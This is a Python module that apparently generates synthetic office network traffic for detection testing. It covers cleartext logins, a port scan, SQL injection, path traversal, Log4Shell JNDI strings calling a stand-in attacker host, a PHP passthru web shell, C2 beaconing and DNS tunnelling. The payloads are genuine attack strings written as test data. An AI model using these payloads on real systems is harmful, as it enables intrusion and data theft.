# SPDX-License-Identifier: GPL-2.0-or-later
"""What should not happen in the office: breaches of good practice, and attacks. Harmless bytes in the shape of harmful ones."""

import base64
import struct

import apps
import net
import pack
import record_tls
import smb
from host import FREEBSD, LINUX, WINDOWS
from office import DOMAIN
from tcp import CLIENT, SERVER, Session

SHOP = "shop." + DOMAIN
C2_AGENT = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; HelperSync 3)"


def attacker(o):
    return o.outside("attacker", "203.0.113.66", LINUX, 14)


def program(noise):
    """Bytes that look like a Windows program: both headers, then noise."""
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    head = (b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(44) + struct.pack("<I", 0x80) + stub).ljust(0x80, b"\0")
    return head + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 3, 0x6750A1B2, 0, 0, 0xE0, 0x102) + b"\x0b\x01" + bytes(222) + noise


def test_virus():
    """The industry's harmless test file, put together here so that no file of the repository holds it whole."""
    return b"".join([b"X5O!P%@AP[4", b"\\PZX54(P^)7CC)7}", b"$EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!", b"$H+H*"])


# -- bad practice --------------------------------------------------------------------

def ftp_clear(o):
    s = Session(o.lan, o.dev25, o.files, 21, at=150.5, rtt=0.0006).open().reply(b"220 files FTP service\r\n")
    for ask, answer in ((b"USER scans", b"331 Password required\r\n"), (b"PASS autumn-leaves", b"230 Logged on\r\n"), (b"TYPE I", b"200 Type set to I\r\n"),
                        (b"PASV", b"227 Entering Passive Mode (192,168,10,12,195,80)\r\n")):
        s.request(ask + b"\r\n").reply(answer)
    data = Session(o.lan, o.dev25, o.files, 195 * 256 + 80, at=s.now, rtt=0.0006).open()
    s.now = data.now
    s.request(b"STOR scan-0001.tif\r\n").reply(b"150 Opening data connection\r\n")
    data.now = s.now
    data.request(b"II*\0" + o.noise("scan", 6000)).close()
    s.now = data.now
    s.reply(b"226 Transfer complete\r\n").request(b"QUIT\r\n").reply(b"221 Goodbye\r\n").close()


def telnet_clear(o):
    turns = [(SERVER, b"\xff\xfd\x18\xff\xfb\x01\xff\xfb\x03"), (CLIENT, b"\xff\xfc\x18\xff\xfd\x01\xff\xfd\x03"), (SERVER, b"\r\ncore-switch\r\nlogin: "),
             (CLIENT, b"admin\r\n"), (SERVER, b"admin\r\nPassword: "), (CLIENT, b"switch-1\r\n"), (SERVER, b"\r\ncore-switch> "), (CLIENT, b"exit\r\n")]
    o.session(170, o.dev25, o.switch, 23, turns, think=0.4)


def basic_auth(o):
    asks = [("Authorization", "Basic YW5uYTptYXBsZQ=="), ("Accept", "*/*")]
    request = apps.http_request("GET", "/phonebook", "intranet." + DOMAIN, asks, agent=o.agent(o.pc23))
    o.session(225, o.pc23, o.intranet, 80, [(CLIENT, request), (SERVER, apps.http_response("200 OK", o.page("Phone book", 2)))])


def password_in_uri(o):
    request = apps.http_request("GET", "/login?user=ben&password=marble-7", "intranet." + DOMAIN, agent=o.agent(o.pc22))
    o.session(232, o.pc22, o.intranet, 80, [(CLIENT, request), (SERVER, apps.http_response("302 Found", b"", [("Location", "/")]))])


def snmp_public(o):
    oid = bytes.fromhex("06082b06010201010500")

    def varbind(value):
        return smb.der(0x30, smb.der(0x30, oid, value))

    def message(pdu, value):
        body = smb.der(pdu, b"\x02\x02\x31\x07", b"\2\1\0", b"\2\1\0", varbind(value))
        return smb.der(0x30, b"\2\1\1", smb.der(4, b"public"), body)
    for n in range(4):
        at, port = 66 + 120 * n, o.dc.next_port()
        o.meet(at, o.dc, o.printer)
        o.lan.send_udp(at, o.dc, o.printer, port, 161, message(0xA0, b"\5\0"))
        o.lan.send_udp(at + 0.004, o.printer, o.dc, 161, port, message(0xA2, smb.der(4, b"printer")), forward=False)


def old_tls(o):
    o.session(238, o.pc22, o.printer, 443, record_tls.load("tls10"))


def program_download(o):
    server = o.outside("tools", "198.51.100.200")
    o.lookup(275, o.pc22, "tools.example", "A", [("tools.example", "A", server.ip)])
    o.browse(275.2, o.pc22, server, "tools.example", [("GET", "/viewer/setup.exe", apps.http_response("200 OK", program(o.noise("setup", 20000)), kind="application/octet-stream"))])


def mail_login_clear(o):
    turns = [(SERVER, b"220 mail.tapir.example ESMTP Postfix\r\n"), (CLIENT, b"EHLO scanner\r\n"), (SERVER, b"250-mail.tapir.example\r\n250 AUTH PLAIN LOGIN\r\n"),
             (CLIENT, b"AUTH PLAIN AHNjYW5uZXIAcGFwZXItamFt\r\n"), (SERVER, b"235 2.7.0 Authentication successful\r\n"), (CLIENT, b"QUIT\r\n"), (SERVER, b"221 2.0.0 Bye\r\n")]
    o.session(320, o.printer, o.mail, 25, turns, think=0.01)


def old_ssh(o):
    turns = [(SERVER, b"SSH-1.5-SwitchOS_1.2\n"), (CLIENT, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")]
    o.session(335, o.dev25, o.switch, 22, turns, close=SERVER)


# -- attacks: looking around -------------------------------------------------------------

def port_scan(o):
    """SYNs to many ports of the web server; closed ones answer with a reset. Then a null and an Xmas probe."""
    rng, them = o.trace.rng("scan"), attacker(o)
    ports = [21, 23, 25, 53, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 587, 636, 993, 995, 1433, 1521, 2049, 2375, 3306, 3389, 5432, 5900, 5985, 6379,
             8000, 8080, 8443, 8888, 9000, 9200, 11211, 27017, 80, 22, 10000, 4444]
    for i, port in enumerate(ports):
        s = Session(o.dmz, them, o.shop, port, sport=54021, at=205 + 0.11 * i, rtt=0.03)
        s.syn()
        if port in (22, 80):
            s.syn_ack()
            s.rst(CLIENT, net.RST)
        else:
            s.server.isn = -1
            s.emit(SERVER, net.RST | net.ACK, 0, window=0, ack=s.client.isn + 1)
    for flags, port in ((0, 7), (net.FIN | net.PSH | net.URG, 9)):
        s = Session(o.dmz, them, o.shop, port, sport=54022, at=212 + port / 10, rtt=0.03)
        s.stamps = False
        seq = rng.getrandbits(32)
        s.emit(CLIENT, flags, seq, window=1024)
        s.emit(SERVER, net.RST | net.ACK, 0, window=0, ack=seq + (1 if flags else 0))
    probe = apps.http_request("GET", "/nmaplowercheck1796634000", SHOP, [("Connection", "close")], agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    o.session(216, them, o.shop, 80, [(CLIENT, probe), (SERVER, apps.http_response("404 Not Found", b"<html>no</html>"))], wire=o.dmz)


def left_files(o):
    for i, uri in enumerate(("/.env", "/.git/config")):
        web(o, 219 + i, "GET", uri, b"<html>no</html>", "404 Not Found")


def zone_transfer(o):
    ask = apps.dns(0x5151, [(DOMAIN, "AXFR")], rd=False)
    refused = apps.dns(0x5151, [(DOMAIN, "AXFR")], response=True, rcode=5, rd=False, ra=False)
    o.session(488, o.pc23, o.dc, 53, [(CLIENT, apps.dns_tcp(ask)), (SERVER, apps.dns_tcp(refused))])


def ssh_guessing(o):
    them = o.outside("guesser", "203.0.113.99", LINUX, 17)
    for i in range(14):
        rng = o.trace.rng("guess %d" % i)
        o.session(440 + 2.3 * i, them, o.shop, 22, apps.ssh_turns(rng, "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_9.2p1", rounds=3)[:9], wire=o.dmz, close=SERVER)


# -- attacks: the web server ----------------------------------------------------------------

def web(o, at, method, uri, answer, status="200 OK", headers=(), body=b"", agent="curl/8.5.0", kind="text/html; charset=utf-8", who=None):
    request = apps.http_request(method, uri, SHOP, [("Accept", "*/*")] + list(headers), body, agent)
    return o.session(at, who or attacker(o), o.shop, 80, [(CLIENT, request), (SERVER, apps.http_response(status, answer, kind=kind))], wire=o.dmz, think=0.02)


def traversal(o):
    web(o, 228, "GET", "/shop/../../../../etc/hosts", b"<html>bad request</html>", "400 Bad Request")
    accounts = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
    web(o, 230, "GET", "/shop/image.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd", accounts, kind="text/plain")


def sql_injection(o):
    error = b"<html><body>You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version</body></html>"
    web(o, 240, "GET", "/shop/item.php?id=17%27", error, "500 Internal Server Error")
    web(o, 241, "GET", "/shop/item.php?id=17%20UNION%20ALL%20SELECT%20NULL,CONCAT(user,0x3a,password),NULL%20FROM%20users--%20-", o.page("Lamp", 1))
    web(o, 242, "POST", "/shop/login.php", b"<html>welcome admin</html>", headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body=b"user=admin%27+OR+%271%27%3D%271&pass=x")
    web(o, 243, "GET", "/shop/item.php?id=17", o.page("Lamp", 1), agent="sqlmap/1.8.4#stable (https://sqlmap.org)")


def jndi(o):
    """The string in two dresses, then the web server calls back: LDAP bind, search, and a reference in the answer."""
    them = attacker(o)
    web(o, 281, "GET", "/shop/", b"<html>hello</html>", agent="${jndi:ldap://203.0.113.66:1389/Basic/a}")
    web(o, 283, "GET", "/shop/", b"<html>hello</html>", headers=[("X-Api-Version", "${${lower:j}${lower:n}di:${lower:l}dap://203.0.113.66:1389/b}")])
    bind = bytes.fromhex("300c020101600702010304008000")
    bound = bytes.fromhex("300c02010161070a010004000400")
    search = smb.der(0x30, b"\2\1\2", smb.der(0x63, smb.der(4, b"Basic/a"), b"\x0a\1\0\x0a\1\3\2\1\0\2\1\0\1\1\0", smb.der(0x87, b"objectClass"), b"\x30\0"))
    attribute = smb.der(0x30, smb.der(4, b"javaCodeBase"), smb.der(0x31, smb.der(4, b"http://203.0.113.66:8000/")))
    entry = smb.der(0x30, b"\2\1\2", smb.der(0x64, smb.der(4, b"Basic/a"), smb.der(0x30, attribute)))
    o.session(283.4, o.shop, them, 1389, [(CLIENT, bind), (SERVER, bound), (CLIENT, search), (SERVER, entry)], wire=o.dmz, rtt=0.03)


def web_shell(o):
    shell = b"<?php @passthru($_REQUEST['k']); ?>\n"
    body = apps.multipart("----form7d33a816d302b6", [("title", None, None, b"lamp"), ("picture", "lamp.php", "image/jpeg", shell)])
    web(o, 312, "POST", "/shop/upload.php", b"<html>stored as /shop/files/lamp.php</html>", headers=[("Content-Type", "multipart/form-data; boundary=----form7d33a816d302b6")], body=body)
    web(o, 315, "GET", "/shop/files/lamp.php?k=id", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", kind="text/plain")


# -- attacks: malware --------------------------------------------------------------------------

def mail_bait(o):
    sender, to = "billing@supp1ier.example", "carla@" + DOMAIN
    message = apps.mail(sender, to, "Overdue invoice 88213", "Please see the invoice.", [("invoice_88213.pdf.exe", "application/octet-stream", program(o.noise("bait", 4000)))],
                        "88213", "=_bait_01")
    o.session(54, o.outside("bait", "203.0.113.140", FREEBSD, 16), o.mail, 25, apps.smtp_turns(message, sender, to, "smtp.supp1ier.example"), think=0.01)


def beacon(o):
    c2 = o.outside("c2", "198.51.100.23", LINUX, 15)
    o.lookup(95, o.pc23, "sync.helper-cdn.example", "A", [("sync.helper-cdn.example", "A", c2.ip, 60)])
    for n in range(8):
        rng = o.trace.rng("beacon %d" % n)
        uri = "/gate.php?id=7c1f00d5a2&v=3&n=%08x" % rng.getrandbits(32)
        request = apps.http_request("GET", uri, "sync.helper-cdn.example", [("Cache-Control", "no-cache")], agent=C2_AGENT)
        answer = apps.http_response("200 OK", b"" if n != 5 else b"run:" + rng.randbytes(24).hex().encode(), kind="text/plain")
        o.session(95.1 + 60 * n + rng.getrandbits(10) / 512, o.pc23, c2, 80, [(CLIENT, request), (SERVER, answer)])
    stage = apps.http_response("200 OK", program(o.noise("stage", 9000)), kind="image/jpeg")
    request = apps.http_request("GET", "/img/holiday.jpg", "sync.helper-cdn.example", agent=C2_AGENT)
    o.session(400, o.pc23, c2, 80, [(CLIENT, request), (SERVER, stage)], think=0.02)


def test_file(o):
    server = o.outside("tests", "198.51.100.210")
    o.lookup(380, o.pc22, "files.test-lab.example", "A", [("files.test-lab.example", "A", server.ip)])
    packed = pack.gzip(test_virus())
    o.browse(380.1, o.pc22, server, "files.test-lab.example", [("GET", "/sample.com", apps.http_response("200 OK", packed, [("Content-Encoding", "gzip")], "application/octet-stream"))])


def dns_tunnel(o):
    for n in range(40):
        rng = o.trace.rng("tunnel %d" % n)
        coded = base64.b32encode(rng.randbytes(70)).decode().lower().rstrip("=")
        name = "%s.%s.%02x.t.telemetry-hub.example" % (coded[:56], coded[56:112], n)
        answer = base64.b64encode(rng.randbytes(96)).decode()
        o.lookup(405 + 0.7 * n, o.pc23, name, "TXT", [(name, "TXT", answer, 1)], wait=0.04)


def odd_tls(o):
    server = o.outside("odd", "203.0.113.201", LINUX, 13)
    o.lookup(480, o.pc23, "update-check.xyz-cdn.example", "A", [("update-check.xyz-cdn.example", "A", server.ip, 30)])
    for n in range(2):
        o.session(480.2 + 45 * n, o.pc23, server, 443, record_tls.load("selfsigned"))


def smb_probe(o):
    o.session(490, o.pc23, o.oldpc, 445, smb.smb1_probe_turns(o.oldpc.ip, o.trace.rng("smb1")), think=0.003, close=None)


def smb_guessing(o):
    """Six wrong passwords in one go against the file server."""
    for n in range(6):
        talk = smb.Smb2(o.trace.rng("wrong %d" % n))
        talk.negotiate()
        talk.login("TAPIR", "administrator", "PC23", "FILES", DOMAIN, fail=True)
        o.session(510 + 0.8 * n, o.pc23, o.files, 445, talk.turns, think=0.002)


SCENES = (
    ("practice ftp", ftp_clear), ("practice telnet", telnet_clear), ("practice basic", basic_auth), ("practice password", password_in_uri),
    ("practice snmp", snmp_public), ("practice tls10", old_tls), ("practice program", program_download), ("practice mail", mail_login_clear),
    ("practice ssh1", old_ssh),
    ("attack scan", port_scan), ("attack files", left_files), ("attack zone", zone_transfer), ("attack ssh", ssh_guessing), ("attack traversal", traversal), ("attack sql", sql_injection), ("attack jndi", jndi),
    ("attack shell", web_shell), ("attack bait", mail_bait), ("attack beacon", beacon), ("attack testfile", test_file), ("attack tunnel", dns_tunnel),
    ("attack tls", odd_tls), ("attack smb1", smb_probe), ("attack logon", smb_guessing),
)
